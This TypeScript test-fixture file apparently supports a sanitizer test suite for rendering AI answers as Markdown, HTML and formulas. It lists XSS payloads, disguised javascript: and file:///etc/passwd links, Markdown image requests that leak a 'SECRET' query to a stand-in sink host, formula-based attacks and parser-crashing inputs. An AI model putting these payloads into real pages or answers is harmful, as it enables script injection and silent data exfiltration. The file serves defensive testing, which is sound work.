import { readSharedJson } from '../../shared-fixtures.ts';

/** Where requests would go to; nothing is there. A port that browsers refuse would hide them. */
const SINK = 'http://a.sink.test';

/** Elements and handlers that run, load, lead away or take over, where markup is markup. */
export const ACTIVE_HTML: readonly string[] = [
  '<script>fetch("SINK/s")</script>',
  '<img src="SINK/i" onerror="fetch(\'SINK/e\')">',
  '<img srcset="SINK/ss 1x">',
  '<picture><source srcset="SINK/p"><img></picture>',
  '<iframe srcdoc="<img src=SINK/sd>"></iframe>',
  '<iframe src="javascript:fetch(\'SINK/ij\')"></iframe>',
  '<object data="SINK/o"></object>',
  '<embed src="SINK/em">',
  '<svg onload="fetch(\'SINK/sv\')"><use href="SINK/u#a"/></svg>',
  '<svg><image href="SINK/si"/></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<template><img src="SINK/t"></template>',
  '<base href="SINK/">',
  '<meta http-equiv="refresh" content="0;url=SINK/r">',
  '<link rel="preconnect" href="SINK">',
  '<link rel="prefetch" href="SINK/pf">',
  '<link rel="stylesheet" href="SINK/c">',
  '<form action="SINK/f"><input name="attributes"><button formaction="SINK/fa">x</button></form>',
  '<form><input name="attributes"><input name="localName"></form>',
  '<a id="getElementById" href="javascript:alert(1)">x</a>',
  '<input autofocus onfocus="fetch(\'SINK/af\')">',
  '<style>@import "SINK/im"; *{background:url(SINK/bg)}</style>',
  '<p style="background:url(SINK/st)" class="icon-button" id="root">x</p>',
  '<dialog open onclose="x">x</dialog>',
  '<details open ontoggle="fetch(\'SINK/d\')">x</details>',
  '<video src="SINK/v" poster="SINK/po" autoplay></video>',
  '<audio src="SINK/a" autoplay></audio>',
  '<table background="SINK/tb"><tr><td>x</table>',
  '<body onload="fetch(\'SINK/bo\')">',
  '<noscript><p title="</noscript><img src=SINK/ns>">',
  '<style><!--</style><img src=SINK/cm>-->',
  '<svg></p><style><a id="</style><img src=SINK/mx onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=SINK/mg&gt;">',
  '<!--><img src=SINK/co>-->',
  `${'<svg>'.repeat(500)}<img src=SINK/deep>`,
].map((html) => html.replaceAll('SINK', SINK));

/** Addresses no answer may link to, plain and in disguise. */
export const BAD_ADDRESSES: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java&#10;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;vascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\u0000script:alert(1)',
  'javascript&colon;alert(1)',
  'javascript://example.com/%0Aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zy8+',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://a.example/1',
  'chrome://settings',
  'chrome-extension://abc/x.html',
  'moz-extension://abc/x.html',
  'view-source:https://a.example',
  'svg:https://a.example',
  'intent://scan/#Intent;end',
  'ftp://a.example/x',
  'tel:123',
  '//a.sink.test/x',
  'https://brave.com@evil.example/',
  'https://user:pass@evil.example/',
];

const BY_ADDRESS: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}> "t")`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x][y]\n\n[y]: ${address}`,
  (address) => `[x][y]\n\n[y]: <${address}>`,
  (address) => `a[^1]\n\n[^1]: [x](${address})`,
  (address) => `<a href="${address}">x</a>`,
];

/** Ways to ask for something on the net with Markdown alone; the addresses themselves are allowed. */
const LOADING: readonly string[] = [
  `![](${SINK}/?q=SECRET)`,
  `![a][b]\n\n[b]: ${SINK}/ref`,
  `[![a](${SINK}/in)](${SINK}/out)`,
  `<${SINK}/auto>`,
  `${SINK}/bare`,
  `a[^1]\n\n[^1]: ![x](${SINK}/note)`,
  `| ![x](${SINK}/cell) |\n| - |\n| ![y](${SINK}/row) |`,
  `\`\`\`mermaid\n%%{init: {"themeCSS": "@import url(${SINK}/m)"}}%%\ngraph TD; A-->B\nclick A "${SINK}/click"\n\`\`\``,
  `\`\`\`html\n<img src="${SINK}/code">\n\`\`\``,
  `\`\`\`svg\n<svg onload="fetch('${SINK}/svg')">\n\`\`\``,
  `\`\`\`__proto__\nx\n\`\`\``,
  `\`\`\`js" onload="alert(1)\nx\n\`\`\``,
];

/** Formulas that want more than to be read. */
export const BAD_FORMULAS: readonly string[] = [
  '\\href{javascript:alert(1)}{x}',
  `\\url{${SINK}/u}`,
  `\\includegraphics{${SINK}/i.png}`,
  '\\htmlData{a=b}{x}',
  '\\htmlStyle{color:red}{x}',
  '\\htmlClass{icon-button}{x}',
  '\\class{icon-button}{x}',
  '\\htmlId{root}{x}',
  '\\def\\a{\\a\\a}\\a',
  '\\def\\a#1{#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}',
  '\\notacommand{x}',
  '\\frac{1',
];

/** Formulas that are drawn, whatever they ask for. */
export const ODD_FORMULAS: readonly string[] = [
  '\\rule{9999em}{9999em}',
  '\\kern9999em x',
  '\\hspace{-99em}x',
  '\\raisebox{99em}{x}',
  '\\color{white}x',
  '\\colorbox{black}{x}',
  'x²₃',
  '\\Huge{x}',
  '\\text{<img src=x>}',
];

const toFormulas = (sources: readonly string[]) =>
  sources.flatMap((source) => [`$${source}$`, `$$\n${source}\n$$`]);

const inside = (text: string): string[] => [
  text,
  `> - ${text}`,
  `**${text}** \`${text}\``,
  `| a |\n| - |\n| ${text} |`,
  `\`\`\`html\n${text}`,
  `# ${text}`,
];

const toVectors = () =>
  (readSharedJson<{ payload: string }[]>('exfil-vectors.json') ?? []).map(({ payload }) => payload);

/** Texts that are streamed one character at a time. */
export function listStreamed(): string[] {
  const short = ACTIVE_HTML.filter(({ length }) => length < 200);
  const fenced = toVectors().map((payload) => `\`\`\`html\n${payload}\n\`\`\``);
  return [...LOADING, ...short, ...toVectors(), ...fenced, ...toFormulas(ODD_FORMULAS)];
}

/** Every text in every place. */
export function listWhole(): string[] {
  return [
    ...[...ACTIVE_HTML, ...LOADING, ...toVectors()].flatMap(inside),
    ...BAD_ADDRESSES.flatMap((address) => BY_ADDRESS.map((write) => write(address))),
    ...toFormulas([...BAD_FORMULAS, ...ODD_FORMULAS]),
  ];
}

/** Texts that have broken parsers of Markdown, or made them take for ever. */
export const PATHOLOGICAL: Readonly<Record<string, string>> = {
  'quotes 50,000 deep': '>'.repeat(50_000),
  'a list 2,000 deep': Array.from({ length: 2000 }, (_, depth) => `${'  '.repeat(depth)}- a`).join(
    '\n',
  ),
  '5,000 lists in one line': '- '.repeat(5000),
  '5,000 numbers in one line': '1. '.repeat(5000),
  '50,000 brackets': '['.repeat(50_000),
  '12,000 asterisks between words': 'a**b'.repeat(12_000),
  '1 MB of line ends': '\n'.repeat(1_000_000),
  'a table of 2,000 by 20': `|${' a |'.repeat(20)}\n|${' - |'.repeat(20)}\n${`|${' b |'.repeat(20)}\n`.repeat(2000)}`,
  '20,000 fences that do not close': '```\n'.repeat(19_999),
  '200 kB of prose': 'The kea is a *mountain* parrot, and **curious**. '.repeat(4000),
  'a line of code of 1 MB': `\`\`\`js\n${'x'.repeat(1_000_000)}\n\`\`\``,
  '200 formulas': '$\\frac{a}{b}$ and '.repeat(200),
};
